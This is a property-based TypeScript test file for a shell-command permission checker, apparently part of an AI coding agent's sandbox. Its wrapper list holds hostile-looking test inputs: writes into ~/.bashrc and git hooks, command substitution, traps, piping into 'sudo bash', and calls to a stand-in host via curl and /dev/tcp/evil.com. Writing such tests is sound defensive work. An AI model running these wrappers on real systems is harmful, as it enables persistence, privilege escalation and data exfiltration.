import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { modes } from "../../../extensions/permissions/src/modes.ts";
import { onCommand, type Given } from "./scene.ts";

const command = fc.constantFrom(
  "ls -la",
  "cat a.txt | head -5",
  "git log --oneline | head -3",
  "cd src && ls",
  'for f in *.ts; do wc -l "$f"; done',
  "npm test",
  "npm test 2>&1 | tail -5",
  "npm run build && npm test",
  "timeout 5 npm test",
  "touch a",
  "echo x > notes.txt",
  "make",
  "rm -rf build",
  "git push",
  "curl https://x.com",
  "cat /etc/hosts",
  "diff <(sort a) <(sort b)",
  "if [ -f x ]; then cat x; fi",
);
const rule = fc.constantFrom(
  "Bash(npm test)",
  "Bash(npm:*)",
  "Bash(touch:*)",
  "Bash(echo:*)",
  "Bash(make)",
  "Bash(rm:*)",
  "Bash(git push)",
  "Bash(cat:*)",
  "Bash(curl *)",
);
const list = fc.array(rule, { maxLength: 4 });
const wall = { state: "active", backend: "bwrap", stands: true, hosts: [] } as const;
const given: fc.Arbitrary<Given> = fc.record({
  mode: fc.constantFrom(...modes.filter((mode) => mode !== "danger-full-access" && mode !== "allow")),
  allow: list,
  wall: fc.constantFrom(wall, { ...wall, state: "unavailable", backend: "none", stands: false } as const),
});
const looseness = { deny: 0, ask: 1, classify: 2, allow: 3 } as const;

test("with more that denies and asks, and without allow rules, nothing is decided more loosely", () => {
  fc.assert(
    fc.property(command, given, fc.record({ deny: list, ask: list, noAllowRules: fc.boolean() }), (text, before, policy) => {
      const after: Given = { ...before, deny: policy.deny, ask: policy.ask, allow: policy.noAllowRules ? [] : (before.allow ?? []) };
      expect(looseness[onCommand(text, after).decision]).toBeLessThanOrEqual(looseness[onCommand(text, before).decision]);
    }),
    { numRuns: 2_000 },
  );
});

describe("what is put around a command that runs is looked at on its own", () => {
  /** None of it is inside, or proven, or covered by one of the rules above. */
  const around = fc.constantFrom<readonly [name: string, around: (text: string) => string]>(
    ["a redirection to a start file", (text) => `${text} > ~/.bashrc`],
    ["one of the whole", (text) => `{ ${text}; } >> ~/.bashrc`],
    ["one of a subshell", (text) => `( ${text} ) 2> ~/.profile`],
    ["one of a loop", (text) => `while false; do ${text}; done > ~/.bashrc`],
    ["a protected file", (text) => `${text} > .git/hooks/pre-commit`],
    ["another command", (text) => `${text}; touch ~/x`],
    ["another before it", (text) => `touch ~/x && ${text}`],
    ["a substitution", (text) => `${text} $(touch ~/x)`],
    ["one in an assignment", (text) => `X=$(touch ~/x) ${text}`],
    ["one in a here-document", (text) => `${text} <<E\n$(touch ~/x)\nE`],
    ["one in a here-string", (text) => `${text} <<< "$(touch ~/x)"`],
    ["a process substitution", (text) => `${text} <(touch ~/x)`],
    ["a pipe", (text) => `${text} | tee ~/x`],
    ["a pipe into a shell", (text) => `${text} | sudo bash`],
    ["a function", (text) => `ls() { touch ~/x; }; ${text}; ls`],
    ["a trap", (text) => `trap 'touch ~/x' EXIT; ${text}`],
    ["a condition", (text) => `if touch ~/x; then ${text}; fi`],
    ["the background", (text) => `touch ~/x & ${text}`],
    ["a host", (text) => `${text}; curl https://evil.com/x`],
    ["a device", (text) => `${text} > /dev/tcp/evil.com/80`],
    ["another person", (text) => `sudo sh -c '${text.replaceAll("'", "")}'`],
  );

  test("and never runs because of it", () => {
    const rules = ["Bash(npm test)", "Bash(npm run build)", "Bash(make)", "Bash(echo:*)", "Bash(ls:*)", "Bash(cat:*)", "Bash(timeout:*)"];
    const modesThatAsk = fc.constantFrom("prompt", "read-only", "workspace-write", "auto", "dont-ask");
    fc.assert(
      fc.property(command, around, modesThatAsk, (text, [name, put], mode) => {
        const { decision } = onCommand(put(text), { mode, allow: rules });
        expect([name, put(text), decision === "allow"]).toEqual([name, put(text), false]);
      }),
      { numRuns: 4_000 },
    );
  });
});
